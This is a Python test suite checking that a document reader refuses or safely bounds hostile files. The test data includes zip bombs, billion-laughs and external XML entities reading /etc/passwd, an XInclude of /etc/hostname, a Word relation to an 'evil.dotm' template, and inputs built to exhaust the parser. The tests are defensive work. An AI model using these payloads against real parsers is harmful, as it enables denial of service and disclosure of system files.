"""Files made to harm: each ends in one fault with words in both languages, or is read, within its bounds."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from budgetcheck.documents import limits
from budgetcheck.documents.document import Document
from budgetcheck.documents.fault import DocumentFault
from budgetcheck.documents.read import read_document
from tests.documents import made
from tests.documents.test_read import tables_of, texts_of
from tests.effort import bounded, spread

SECONDS = 20
"""Far above what each takes, far below the deadline of a child."""


def fault_of(data: bytes) -> DocumentFault:
    with bounded(SECONDS), pytest.raises(DocumentFault) as caught:
        read_document(data)
    fault = caught.value
    for language in ("zh", "en"):
        said = fault.say(language)
        assert said
        assert "\n" not in said
        assert "Traceback" not in said
    assert fault.remedy.zh
    return fault


def repacked(data: bytes, change: Callable[[str, bytes], bytes], more: dict[str, bytes] | None = None) -> bytes:
    """A package with changed or further parts."""
    made_of = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(made_of, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, part in (more or {}).items():
            new.writestr(name, part)
    return made_of.getvalue()


def ends(data: bytes, *kinds: str) -> Document | None:
    """Read a file that is either read or refused for one of these reasons; None where it was refused."""
    with bounded(SECONDS):
        try:
            return read_document(data)
        except DocumentFault as fault:
            refused = fault
    assert refused.kind in kinds
    assert refused.say("zh")
    return None


def same(_: str, part: bytes) -> bytes:
    return part


# ------------------------------------------------------------------------------------------------------------ packages


@pytest.mark.parametrize("package", [made.as_docx, made.as_xlsx, made.as_ods])
def test_a_zip_bomb_is_refused_before_it_is_unpacked(package: Callable[[], bytes]) -> None:
    bomb = repacked(package(), same, {"word/media/bomb.xml": b"\0" * 40_000_000})
    assert len(bomb) < 1_000_000
    assert fault_of(bomb).kind == "too large"


def test_a_package_of_countless_parts_is_refused() -> None:
    parts = {f"word/p{at}.xml": b"" for at in range(limits.ZIP_PARTS + 1)}
    assert fault_of(repacked(made.as_docx(), same, parts)).kind == "too large"


def test_a_part_larger_than_its_directory_says_is_a_fault() -> None:
    data = bytearray(repacked(made.as_docx(), same, {"word/extra.xml": b"<a>" + b" " * 2_000_000 + b"</a>"}))
    at = data.rindex(b"word/extra.xml") - 46
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    assert fault_of(bytes(data)).kind == "damaged"


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(9))
    + b"]>"
)
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("declared", [LAUGHS, EXTERNAL])
@pytest.mark.parametrize(
    ("package", "part"),
    [(made.as_docx, "word/document.xml"), (made.as_xlsx, "xl/workbook.xml"), (made.as_ods, "content.xml")],
)
def test_xml_entities_are_refused(package: Callable[[], bytes], part: str, declared: bytes) -> None:
    def change(name: str, content: bytes) -> bytes:
        return (
            declared + content[content.index(b"?>") + 2 :]
            if name == part and b"?>" in content
            else (declared + content if name == part else content)
        )

    assert fault_of(repacked(package(), change)).kind == "unsafe"


def test_entities_in_utf_16_are_refused() -> None:
    def change(name: str, content: bytes) -> bytes:
        if name != "word/document.xml":
            return content
        text = content.decode().split("?>", 1)[1]
        return ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]>' + text).encode("utf-16")

    assert fault_of(repacked(made.as_docx(), change)).kind == "unsafe"


def test_external_relations_of_word_are_not_followed() -> None:
    def change(name: str, content: bytes) -> bytes:
        if name != "word/_rels/document.xml.rels":
            return content
        relation = (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
        )
        return content.replace(b"</Relationships>", relation)

    document = read_document(repacked(made.as_docx(), change))
    assert made.PROSE in texts_of(document)


def test_macros_are_left_where_they_are() -> None:
    document = read_document(repacked(made.as_docx(), same, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 1000}))
    assert made.PROSE in texts_of(document)
    assert [note.zh for note in document.notes] == ["文件含有宏：没有读取，也没有运行"]


def test_a_document_with_macros_is_read_as_any_other() -> None:
    def with_macros(name: str, part: bytes) -> bytes:
        plain, macros = (
            b"openxmlformats-officedocument.wordprocessingml.document.main",
            b"ms-word.document.macroEnabled.main",
        )
        return part.replace(plain, macros) if name == "[Content_Types].xml" else part

    assert made.PROSE in texts_of(read_document(repacked(made.as_docx(), with_macros, {"word/vbaProject.bin": b"x"})))


def test_paragraphs_without_end_are_refused_before_they_are_read() -> None:
    def longer(name: str, part: bytes) -> bytes:
        more = b"<w:p/>" * (limits.PARAGRAPHS + 1)
        return part.replace(b"<w:body>", b"<w:body>" + more) if name == "word/document.xml" else part

    assert fault_of(repacked(made.as_docx(), longer)).kind == "too large"


@pytest.mark.parametrize("flood", [b"<table:table-row/>" * 2_500_000, b"<table:table-cell " * 300_000])
def test_a_flood_of_tags_is_refused(flood: bytes) -> None:
    def flooded(name: str, part: bytes) -> bytes:
        return part.replace(b"</table:table>", flood + b"</table:table>", 1) if name == "content.xml" else part

    assert fault_of(repacked(made.as_ods(), flooded)).kind in ("too large", "damaged")


def test_included_files_are_not_read() -> None:
    def including(name: str, part: bytes) -> bytes:
        file = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'
        return (
            part.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>" + file + b"</w:t></w:r></w:p>")
            if name == "word/document.xml"
            else part
        )

    assert texts_of(read_document(repacked(made.as_docx(), including))) == texts_of(read_document(made.as_docx()))


def test_elements_nested_without_end_are_bounded() -> None:
    deep = b"<w:tbl><w:tr><w:tc>" * 50_000 + b"</w:tc></w:tr></w:tbl>" * 50_000

    def change(name: str, content: bytes) -> bytes:
        return content.replace(b"<w:sectPr", deep + b"<w:sectPr", 1) if name == "word/document.xml" else content

    assert fault_of(repacked(made.as_docx(), change)).kind in ("damaged", "too large")


@pytest.mark.parametrize("package", [made.as_docx, made.as_xlsx, made.as_ods, made.as_xls, made.as_pdf])
def test_damaged_files_are_faults_or_read(package: Callable[[], bytes]) -> None:
    data = package()
    for share in (0.3, 0.6, 0.95):
        ends(data[: int(len(data) * share)], "damaged", "unknown", "empty")
    for step in range(7, len(data), max(len(data) // 12, 1)):
        changed = bytearray(data)
        changed[step : step + 40] = bytes(byte ^ 0x5A for byte in changed[step : step + 40])
        ends(bytes(changed), "damaged", "unknown", "empty", "unsafe", "encrypted", "garbled", "too large")


# ----------------------------------------------------------------------------------------------------------- workbooks


def test_a_sheet_with_its_cells_at_the_far_corners_is_refused() -> None:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = 1
    book.active["XFD1048576"] = 2
    data = io.BytesIO()
    book.save(data)
    assert fault_of(data.getvalue()).kind in ("too large", "damaged")


def test_merged_cells_over_the_whole_sheet_are_clipped() -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["项目", "金额"])
    sheet.append(["合计", 1.5])
    sheet.append([None, None])
    data = io.BytesIO()
    book.save(data)

    def change(name: str, content: bytes) -> bytes:
        merged = b'<mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells><pageMargins'
        return content.replace(b"<pageMargins", merged, 1) if name.endswith("sheet1.xml") else content

    (table,) = tables_of(read_document(repacked(data.getvalue(), change)))
    assert (table.height, table.width) == (2, 2)


def test_repeated_cells_of_an_opendocument_sheet_are_bounded() -> None:
    def change(name: str, content: bytes) -> bytes:
        row = (
            b'<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            b'table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
        )
        return content.replace(b"</table:table>", row + b"</table:table>") if name == "content.xml" else content

    document = ends(repacked(made.as_ods(), change), "too large", "damaged")
    assert document is None or sum(len(table.cells) for table in tables_of(document)) <= limits.CELLS


def test_ten_thousand_rows_are_read_fast() -> None:
    import openpyxl

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    for at in range(10_000):
        sheet.append([f"科目{at}", *(at + column / 100 for column in range(9))])
    data = io.BytesIO()
    book.save(data)
    with bounded(SECONDS):
        (table,) = tables_of(read_document(data.getvalue()))
    assert (table.height, table.width) == (10_000, 10)


@pytest.mark.parametrize("form", spread(["text", "html", "tabs", "pipes", "blanks"], 1))
def test_ten_thousand_rows_of_text_are_read_fast(form: str) -> None:
    rows = [(f"科目{at}", f"{at}.00", f"{at + 1}.50") for at in range(10_000)]
    if form == "html":
        data = "<html><table>" + "".join("<tr>" + "".join(f"<td>{x}</td>" for x in row) + "</tr>" for row in rows)
    elif form == "text":
        data = "\n".join("".join(f"\t{x}\n" for x in row) for row in rows)
    elif form == "blanks":
        data = "\n".join(f"{a:<12}{b:>12}{c:>14}" for a, b, c in rows)
    else:
        mark = "\t" if form == "tabs" else "|"
        data = "\n".join(("|" if mark == "|" else "") + mark.join(row) for row in rows)
    with bounded(SECONDS):
        (table,) = tables_of(read_document(data.encode()))
    assert table.height == 10_000
    assert rows_of_last(table) == rows[-1]


def rows_of_last(table) -> tuple[str, ...]:
    return tuple(cell.text for cell in table.cells if cell.row == table.height - 1)


# ------------------------------------------------------------------------------------------------------- text and pages


@pytest.mark.parametrize(
    "text",
    spread(
        [
            "\t某一段缩进的文字\n" * 40_000,
            "a  b\n" * 40_000 + "\n" + "a  b  c\nxx yy\n" * 20_000,
            "|" * 400_000,
            ("|a\n" + "x\n") * 40_000,
            "<table>\n" * 40_000,
            "\t" * 100_000,
            " " * 2_000_000 + "x",
            "**" * 100_000,
            "\n" * 200_000 + "x",
            "-" * 100_000 + "|",
            "[bookmark: " * 40_000,
        ],
        6,
    ),
    ids=["indented", "blanks", "pipes", "lone pipes", "markup", "tabs", "spaces", "stars", "lines", "dashes", "marks"],
)
def test_texts_that_lead_astray_are_read_in_linear_time(text: str) -> None:
    ends(text.encode(), "too large", "garbled", "empty")


def test_too_much_text_is_refused() -> None:
    assert fault_of(b"\n" * (limits.LINES + 10) + b"x").kind == "too large"
    assert fault_of("预".encode() * (limits.CHARACTERS + 1)).kind == "too large"


@pytest.mark.parametrize(
    "page",
    [
        "<html><body>" + "<div>" * 300_000 + "正文",
        "<html><body>" + "<table><tr><td>" * 20_000 + "正文",
        "<html><body><table>" + "<tr><td rowspan=60000 colspan=1000>正文" * 50,
        "<html><body><table><tr>" + "<td>1" * 5_000,
        "<html><body>" + "<b>" * 40_000 + "正文",
    ],
    ids=["divs", "tables", "spans", "columns", "marks"],
)
def test_web_pages_that_nest_or_span_without_end_are_bounded(page: str) -> None:
    document = ends(page.encode(), "too large", "damaged")
    assert document is None or "正文" in "".join(texts_of(document)) or tables_of(document)


def test_an_encrypted_office_file_says_so() -> None:
    from tests.documents.test_detect import compound

    assert fault_of(compound(["EncryptedPackage", "EncryptionInfo"])).kind == "encrypted"


def body_with(part: bytes) -> bytes:
    """A Word document with further markup at its end."""

    def change(name: str, content: bytes) -> bytes:
        return content.replace(b"<w:sectPr", part + b"<w:sectPr", 1) if name == "word/document.xml" else content

    return repacked(made.as_docx(), change)


CELL = b"<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"


def test_tables_and_cells_without_end_are_refused() -> None:
    assert fault_of(body_with((b"<w:tbl><w:tr>" + CELL + b"</w:tr></w:tbl>") * 20_000)).kind == "too large"
    assert fault_of(body_with(b"<w:tbl><w:tr>" + CELL * 20_000 + b"</w:tr></w:tbl>")).kind == "too large"


@pytest.mark.parametrize("row", [b'<row r="%d"/>', b'<row r="%d"><c r="A%d" s="0"/></row>'], ids=["empty", "blank"])
def test_a_sheet_of_empty_rows_is_as_long_as_what_stands_in_it(row: bytes) -> None:
    more = b"".join(row.replace(b"%d", b"%d" % at) for at in range(1000, 200_000))

    def change(name: str, content: bytes) -> bytes:
        return content.replace(b"</sheetData>", more + b"</sheetData>") if name.endswith("sheet1.xml") else content

    document = ends(repacked(made.as_xlsx(), change), "too large")
    assert document is None or all(table.height < 1000 for table in tables_of(document))
